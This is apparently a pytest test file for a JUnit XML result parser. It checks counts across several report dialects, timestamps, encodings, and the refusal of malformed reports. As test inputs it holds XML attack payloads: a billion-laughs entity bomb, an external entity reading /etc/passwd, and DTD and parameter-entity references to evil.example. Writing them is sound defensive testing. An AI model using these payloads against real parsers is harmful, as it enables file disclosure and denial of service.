"""JUnit XML in its dialects: which tests ran, which failed, and what is refused."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from outsource_gate.results import Content, ResultError, format_of, read_content


def read(text: str | bytes) -> Content:
    return read_content(text.encode() if isinstance(text, str) else text, "junit")


def counts(text: str) -> tuple[int, int, int, int]:
    tests = read(text).tests
    assert tests
    return tests.run, tests.failures, tests.errors, tests.skipped


PYTEST = """<?xml version="1.0" encoding="utf-8"?><testsuites name="pytest tests"><testsuite name="pytest"
errors="1" failures="1" skipped="1" tests="4" time="0.1" timestamp="2026-11-23T11:00:00.000000+00:00"
hostname="job"><testcase classname="t" name="test_a" time="0.1" /><testcase classname="t" name="test_b"><failure
message="assert 0">def test_b(): assert 0</failure></testcase><testcase classname="t" name="test_c"><skipped
type="pytest.skip" message="no" /></testcase><testcase classname="t" name="test_d"
><error message="failed on setup" /></testcase>
</testsuite></testsuites>"""
MAVEN = """<?xml version="1.0" encoding="UTF-8"?><testsuite xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
name="pay.RefundTest" time="0.1" tests="3" errors="0" skipped="0" failures="1"><properties><property
name="java.version" value="21"/></properties><testcase name="a" classname="pay.RefundTest"><flakyFailure
message="once"/></testcase><testcase name="b" classname="pay.RefundTest"><failure message="1 != 2"
type="AssertionError"/><rerunFailure message="1 != 2"/><system-out><![CDATA[<failure>]]></system-out></testcase>
<testcase name="c" classname="pay.RefundTest"/></testsuite>"""
NESTED = """<testsuites><testsuite name="all" tests="2" failures="1"><testsuite name="inner" tests="2" failures="1">
<testcase name="a"/><testcase name="b"><failure/></testcase></testsuite></testsuite></testsuites>"""
JENKINS = """<testsuites><testsuite name="x" disabled="1"><testcase name="a" status="notrun"/><testcase name="b"
status="run"/></testsuite></testsuites>"""


@pytest.mark.parametrize(
    ("text", "wanted"),
    [(PYTEST, (3, 1, 1, 1)), (MAVEN, (3, 1, 0, 0)), (NESTED, (2, 1, 0, 0)), (JENKINS, (1, 0, 0, 1))],
    ids=["pytest", "maven", "nested", "jenkins"],
)
def test_every_dialect_is_counted(text: str, wanted: tuple[int, int, int, int]) -> None:
    assert counts(text) == wanted


def test_failed_tests_are_named() -> None:
    tests = read(PYTEST).tests
    assert tests
    assert [(one.name, one.kind, one.message) for one in tests.failed] == [
        ("t.test_b", "failure", "assert 0"),
        ("t.test_d", "error", "failed on setup"),
    ]


def test_a_suite_that_counts_more_failures_than_it_shows_is_believed() -> None:
    """setUpClass of unittest fails without a case of its own"""
    assert counts('<testsuite errors="2"><testcase name="a"/></testsuite>') == (1, 0, 2, 0)


def test_a_skipped_test_that_failed_has_failed() -> None:
    text = '<testsuite><testcase name="a"><skipped/><failure/></testcase></testsuite>'
    assert counts(text) == (1, 1, 0, 0)


@pytest.mark.parametrize("text", ["<testsuites/>", "<testsuite/>", '<testsuite tests="5"/>'])
def test_a_report_without_cases_has_run_no_test(text: str) -> None:
    """whatever its attributes say"""
    assert counts(text) == (0, 0, 0, 0)


def test_a_failure_deep_inside_of_output_is_none() -> None:
    assert counts("<testsuite><testcase><system-out><failure/></system-out></testcase></testsuite>") == (1, 0, 0, 0)


@pytest.mark.parametrize(
    ("stamps", "made"),
    [
        (["2026-11-23T11:00:00Z"], datetime(2026, 11, 23, 11, tzinfo=UTC)),
        (["2026-11-23T11:00:00+01:00", "2026-11-23T09:00:00Z"], datetime(2026, 11, 23, 9, tzinfo=UTC)),
        (["2026-11-23T14:00:00"], datetime(2026, 11, 23, 0, tzinfo=UTC)),
        (["2026-11-23T11:00:00Z", ""], None),
        (["today"], None),
        (["9999-12-31T23:59:59-14:00"], None),
        (["0001-01-01T00:00:00"], None),
    ],
)
def test_the_earliest_suite_is_its_time(stamps: list[str], made: datetime | None) -> None:
    """without a zone it is the earliest that can be meant"""
    suites = "".join(f'<testsuite timestamp="{stamp}"/>' for stamp in stamps)
    assert read(f"<testsuites>{suites}</testsuites>").made_at == made


def test_a_property_names_the_commit() -> None:
    """`record_testsuite_property("commit", ...)` of pytest"""
    text = f'<testsuite><properties><property name="commit" value="{"A" * 40}"/></properties></testsuite>'
    assert read(text).commits == ("a" * 40,)


LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><testsuite name="&b;"><testcase/></testsuite>'
OUTSIDE = '<!DOCTYPE l [<!ENTITY e SYSTEM "file:///etc/passwd">]><testsuite><testcase name="a"/>&e;</testsuite>'
LINKED = '<!DOCTYPE testsuite SYSTEM "http://evil.example/a.dtd"><testsuite><testcase name="a"/></testsuite>'
PARAMETER = '<!DOCTYPE l [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><testsuite><testcase/></testsuite>'


@pytest.mark.parametrize(
    "text", [LAUGHS, OUTSIDE, LINKED, PARAMETER], ids=["laughs", "outside", "linked", "parameter"]
)
def test_xml_with_a_document_type_is_refused(text: str) -> None:
    """and with it entities that grow, name files or hosts"""
    with pytest.raises(ResultError, match="declares a document type"):
        read(text)


@pytest.mark.parametrize(
    ("raw", "told"),
    [
        (b"", "no whole XML"),
        (b"<html/>", "begins with <html>"),
        (b"<testsuite>", "no whole XML"),
        (b"<testsuite/><testsuite/>", "no whole XML"),
        (b"<testsuite>&nbsp;</testsuite>", "no whole XML"),
        (b"<testsuite>\xff</testsuite>", "no whole XML"),
        (b'<?xml version="1.0" encoding="utf-7"?><testsuite/>', "encoding"),
        (b"<testsuite><testcase><testcase/></testcase></testsuite>", "a test case inside of another"),
        (b"<testsuite>" * 70, "nested deeper than 64"),
    ],
)
def test_what_is_no_whole_report_is_refused(raw: bytes, told: str) -> None:
    with pytest.raises(ResultError) as raised:
        read(raw)
    assert told in raised.value.message


def test_other_encodings_that_xml_declares_are_read() -> None:
    text = '<?xml version="1.0" encoding="{}"?><testsuite><testcase name="ä"><failure/></testcase></testsuite>'
    for name in ("utf-16", "iso-8859-1", "windows-1252"):
        raw = text.format(name).encode(name)
        assert format_of(raw) == "junit"
        tests = read(raw).tests
        assert tests and [one.name for one in tests.failed] == ["ä"]
